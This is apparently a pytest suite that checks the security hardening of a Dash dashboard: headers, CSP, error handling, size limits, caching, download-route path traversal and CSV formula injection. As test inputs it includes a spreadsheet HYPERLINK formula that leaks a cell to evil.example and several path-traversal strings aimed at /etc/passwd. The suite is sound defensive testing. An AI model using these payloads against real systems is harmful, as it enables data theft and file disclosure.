"""Hardening of the Dash server: headers, CSP (checked in a browser), limits, errors, cache, compression."""

from __future__ import annotations

import base64
import gzip
import hashlib
import importlib.util
import re
import shutil
import subprocess
import time

import dash
import pytest
from dash import Input, Output, dcc, html

from dashboard.web import security
from etl.core.errors import Ict4dError
from tests import localserver

SECRET = "secret-detail-/etc/passwd"
CALLS: list[str] = []  # values the server-side callback of the mini app was computed for


def _mini_app(csp_ok: bool = True) -> dash.Dash:
    """A small Dash app with a graph, a clientside callback (inline script) and a failing callback."""
    app = dash.Dash(__name__)
    app.layout = html.Div(
        [
            dcc.Input(id="x", value="a"),
            html.Div(id="y"),
            html.Div(id="z"),
            dcc.Graph(id="g", figure={"data": [{"x": [1, 2, 3], "y": [2, 1, 3], "type": "scatter"}]}),
        ]
    )

    @app.callback(Output("y", "children"), Input("x", "value"))
    def double(value):
        CALLS.append(value)
        if value == "boom":
            raise ValueError(SECRET)
        return f"server:{value * 2}"

    app.clientside_callback(
        "function(v) { return 'client:' + v; }", Output("z", "children"), Input("x", "value")
    )
    security.harden(app)
    _setup_alone(app)
    if not csp_ok:  # a control: the same app with Dash's inline-script hashes missing from the CSP
        app.csp_hashes = lambda *a, **k: []
    return app


def _setup_alone(app: dash.Dash) -> None:
    """Finish the mini app's setup now, with Dash's global callback registry set aside: the first app to
    set up takes every pending `dash.callback`, and those belong to the pages app other tests use."""
    from dash import _callback

    pending = (
        dict(_callback.GLOBAL_CALLBACK_MAP),
        list(_callback.GLOBAL_CALLBACK_LIST),
        list(_callback.GLOBAL_INLINE_SCRIPTS),
    )
    for registry in (
        _callback.GLOBAL_CALLBACK_MAP,
        _callback.GLOBAL_CALLBACK_LIST,
        _callback.GLOBAL_INLINE_SCRIPTS,
    ):
        registry.clear()
    try:
        with app.server.test_request_context("/"):
            app._setup_server()
    finally:
        _callback.GLOBAL_CALLBACK_MAP.update(pending[0])
        _callback.GLOBAL_CALLBACK_LIST.extend(pending[1])
        _callback.GLOBAL_INLINE_SCRIPTS.extend(pending[2])


def _update_body(value: str) -> dict:
    return {
        "output": "y.children",
        "outputs": {"id": "y", "property": "children"},
        "inputs": [{"id": "x", "property": "value", "value": value}],
        "changedPropIds": ["x.value"],
    }


@pytest.fixture(autouse=True)
def _forget_mini_apps():
    """Requests to a mini app leave it as Dash's "current app" in this thread; a pages app created later
    (the session `app`) would then register its routes on the mini app. Forget it after each test."""
    yield
    from dash import _get_app

    _get_app.app_context.set(None)


@pytest.fixture
def client():
    return _mini_app().server.test_client()


@pytest.mark.parametrize("path", ["/", "/_dash-layout", "/_dash-dependencies", "/no-such-page.txt"])
def test_security_headers_on_every_response(client, path):
    r = client.get(path)
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["X-Frame-Options"] == "DENY"
    assert r.headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
    csp = r.headers["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in csp
    assert "'unsafe-eval'" not in csp
    script_src = re.search(r"script-src ([^;]*)", csp).group(1)
    assert "'unsafe-inline'" not in script_src


def test_csp_allows_exactly_the_inline_scripts_of_the_page(client):
    html_text = re.sub(r"<!--.*?-->", "", client.get("/").get_data(as_text=True), flags=re.S)  # IE-only
    inline = re.findall(r"<script(?![^>]*\bsrc=)([^>]*)>(.*?)</script>", html_text, flags=re.S)
    executable = [body for attrs, body in inline if "application/json" not in attrs]
    assert executable, "Dash renders at least its renderer bootstrap inline"
    csp = client.get("/").headers["Content-Security-Policy"]
    for body in executable:
        digest = base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in csp


def test_callback_error_is_generic_and_logged(client, caplog):
    r = client.post("/_dash-update-component", json=_update_body("boom"))
    assert r.status_code == 500
    text = r.get_data(as_text=True)
    assert SECRET not in text and "Traceback" not in text and "ValueError" not in text
    assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"]
    ref = re.search(r"ref ([0-9a-f]{12})", text).group(1)
    logged = [rec for rec in caplog.records if ref in rec.getMessage()]
    assert logged and SECRET in str(logged[0].exc_info[1])


def test_working_callback_still_answers(client):
    r = client.post("/_dash-update-component", json=_update_body("ok"))
    assert r.status_code == 200
    assert r.get_json()["response"]["y"]["children"] == "server:okok"


def test_repeated_callback_requests_are_answered_from_the_cache(client):
    CALLS.clear()
    first = client.post("/_dash-update-component", json=_update_body("same"))
    again = client.post("/_dash-update-component", json=_update_body("same"))
    other = client.post("/_dash-update-component", json=_update_body("other"))
    assert CALLS == ["same", "other"]
    expected = {"multi": True, "response": {"y": {"children": "server:samesame"}}}
    assert first.get_json() == again.get_json() == expected
    assert other.get_json()["response"]["y"]["children"] == "server:otherother"
    assert again.headers["X-Content-Type-Options"] == "nosniff"  # cached answers are hardened too


def test_failed_callbacks_are_not_cached(client):
    CALLS.clear()
    assert client.post("/_dash-update-component", json=_update_body("boom")).status_code == 500
    assert client.post("/_dash-update-component", json=_update_body("boom")).status_code == 500
    assert CALLS == ["boom", "boom"]


def test_huge_post_is_rejected_with_413(client):
    body = b'{"inputs": "' + b"x" * (security.MAX_REQUEST_BYTES + 1) + b'"}'
    r = client.post("/_dash-update-component", data=body, content_type="application/json")
    assert r.status_code == 413
    assert r.headers["X-Content-Type-Options"] == "nosniff"  # error answers carry the headers too
    small = client.post("/_dash-update-component", json=_update_body("ok"))
    assert small.status_code == 200


def test_responses_are_compressed_when_accepted(client):
    plain = client.get("/_dash-component-suites/dash/dcc/dash_core_components.v0_0_0m0.js")
    assert plain.status_code == 200 and "Content-Encoding" not in plain.headers
    r = client.get(
        "/_dash-component-suites/dash/dcc/dash_core_components.v0_0_0m0.js",
        headers={"Accept-Encoding": "gzip"},
    )
    assert r.headers["Content-Encoding"] == "gzip"
    assert gzip.decompress(r.get_data()) == plain.get_data()
    assert len(r.get_data()) < len(plain.get_data()) / 2


def test_cache_config_default_and_redis():
    assert security.cache_config({})["CACHE_TYPE"].endswith("ByteBoundedCache")
    redis = security.cache_config({security.REDIS_ENV: "redis://127.0.0.1:6379/0"})
    assert redis["CACHE_TYPE"] == "RedisCache" and redis["CACHE_REDIS_URL"] == "redis://127.0.0.1:6379/0"
    with pytest.raises(Ict4dError, match=security.REDIS_ENV):
        security.cache_config({security.REDIS_ENV: "http://example.org"})


def _csp_violations(browser, url: str, wait_for: str) -> tuple[list[str], str]:
    """Load `url` in headless Chromium; return (CSP violations reported by the page, text of `wait_for`)."""
    context = browser.new_context()
    try:
        page = context.new_page()
        console: list[str] = []
        page.on("console", lambda m: console.append(m.text))
        # registered before any page script runs, so violations during load are caught too
        page.add_init_script(
            "window.__csp = []; document.addEventListener('securitypolicyviolation',"
            " e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));"
        )
        page.goto(url)
        selector, text = f"#{wait_for}", ""
        deadline = time.monotonic() + 20  # polled from Python: an in-page wait needs eval, which CSP forbids
        while not text and time.monotonic() < deadline:
            page.wait_for_timeout(200)
            found = page.query_selector(selector)
            text = found.inner_text() if found else ""
        page.wait_for_timeout(500)  # late violations (fonts, workers) still get reported
        violations = list(page.evaluate("window.__csp"))
        violations += [m for m in console if "Content Security Policy" in m]
        return violations, text
    finally:
        context.close()


@pytest.mark.browser
@pytest.mark.skipif(not localserver.browser_available(), reason="needs Debian chromium")
def test_page_renders_in_browser_without_csp_violations(browser):
    with localserver.threaded_server(_mini_app().server) as url:
        violations, text = _csp_violations(browser, url + "/", wait_for="z")
    assert text == "client:a"  # the clientside (inline) callback ran
    assert violations == []


@pytest.mark.browser
@pytest.mark.skipif(not localserver.browser_available(), reason="needs Debian chromium")
def test_browser_check_detects_a_broken_csp(browser):
    """Control for the test above: without Dash's script hashes the browser must report violations."""
    with localserver.threaded_server(_mini_app(csp_ok=False).server) as url:
        violations, text = _csp_violations(browser, url + "/", wait_for="z")
    assert violations and text == ""


# --- the real app: downloads, CSV exports, CSP in the browser ---------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def app_client(app):
    return app.server.test_client()


@pytest.mark.parametrize(
    "path",
    [
        "/download/../../etc/passwd.csv",
        "/download/..%2F..%2Fetc%2Fpasswd.csv",
        "/download/%2e%2e.csv",
        "/download/..%5C..%5Cetc%5Cpasswd.csv",
        "/download/observations.parquet",
        "/download/datapackage.json",
        "/download/observations.csv%00.txt",
        "/download/%252e%252e%252fetc.csv",
        "/download//etc/passwd.csv",
    ],
)
def test_download_routes_reject_traversal_and_unknown_files(app_client, path):
    """No file is served: either a 404, or (for paths outside /download/<name>.csv) Dash's own page shell,
    which the browser's router turns into "page not found"."""
    r = app_client.get(path)
    body = r.get_data()
    assert r.status_code == 404 or (r.mimetype == "text/html" and b"_dash-config" in body), r.status_code
    assert r.mimetype != "text/csv" and b"root:" not in body and b"PAR1" not in body
    assert str(security.__file__).split("dashboard")[0].encode() not in body  # no server paths either


@pytest.mark.parametrize("name", ["nope", "OBSERVATIONS", ".observations", "....", "datapackage", "a" * 300])
def test_unknown_table_names_get_404(app_client, name):
    assert app_client.get(f"/download/{name}.csv").status_code == 404


def test_download_route_serves_a_published_table(app_client, fixture_dir):
    r = app_client.get("/download/indicators.csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.get_data(as_text=True).splitlines()[0].startswith("indicator_id,")
    assert r.get_data() == (fixture_dir / "indicators.csv").read_bytes()  # no formula cells: served as is


@pytest.fixture
def poisoned(tmp_path, fixture_dir):
    """The fixture with the world's display name turned into a spreadsheet formula."""
    import pandas as pd

    from dashboard.views import published

    out = shutil.copytree(fixture_dir, tmp_path / "published")
    entities = pd.read_parquet(out / "entities.parquet")
    entities.loc[entities["entity_id"] == "world", "name"] = FORMULA
    entities.to_parquet(out / "entities.parquet", index=False)
    entities.to_csv(out / "entities.csv", index=False)
    published.use(out)
    return out


def _csv_cells(text: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_chart_csv_export_neutralises_formulas(app, poisoned):
    """Through a real request: the explorer's CSV export button, as the browser sends it."""
    import requests

    from benchmarks import loadtest

    with localserver.threaded_server(app.server) as url:
        scenario = loadtest.capture(requests.Session(), url)
        body = next(b for p in scenario.pages if p.path == "/explorer" for b in p.exports)
        r = requests.post(url + "/_dash-update-component", json=body, timeout=30)
    assert r.status_code == 200
    (payload,) = [v["data"] for v in r.json()["response"].values()]
    cells = _csv_cells(payload["content"])
    assert "'" + FORMULA in cells  # the world's name, neutralised
    assert FORMULA not in cells


def test_table_download_neutralises_formulas(app, poisoned):
    r = app.server.test_client().get("/download/entities.csv")
    assert r.status_code == 200
    cells = _csv_cells(r.get_data(as_text=True))
    assert FORMULA not in cells, "a published table download must not carry a live spreadsheet formula"


@pytest.mark.browser
@pytest.mark.skipif(not localserver.browser_available(), reason="needs Debian chromium")
def test_real_pages_render_without_csp_violations(app, browser):
    paths = ["/", "/explorer", "/explorer?tab=map", "/gender", "/targets", "/claims", "/data", "/country/KEN"]
    found = {}
    with localserver.threaded_server(app.server) as url:
        for path in paths:
            violations, text = _csp_violations(browser, url + path, wait_for="main")
            found[path] = violations
            assert text, f"{path} rendered nothing"
    assert found == {p: [] for p in paths}


@pytest.mark.skipif(
    not shutil.which("redis-server") or importlib.util.find_spec("redis") is None,
    reason="needs redis-server and the redis package (pip install -e '.[redis]')",
)
def test_redis_cache_is_shared_between_workers(monkeypatch, tmp_path):
    """Two apps (as two gunicorn workers) on one Redis: a view computed by one is answered by the other."""
    port = localserver.free_port()
    redis_server = subprocess.Popen(
        ["redis-server", "--port", str(port), "--save", "", "--appendonly", "no", "--dir", str(tmp_path)],
        stdout=subprocess.DEVNULL,
    )
    try:
        time.sleep(0.5)
        monkeypatch.setenv(security.REDIS_ENV, f"redis://127.0.0.1:{port}/0")
        first, second = _mini_app().server.test_client(), _mini_app().server.test_client()
        CALLS.clear()
        a = first.post("/_dash-update-component", json=_update_body("shared"))
        b = second.post("/_dash-update-component", json=_update_body("shared"))
        assert a.get_json() == b.get_json() and a.status_code == 200
        assert CALLS == ["shared"]
    finally:
        redis_server.terminate()
        redis_server.wait(10)
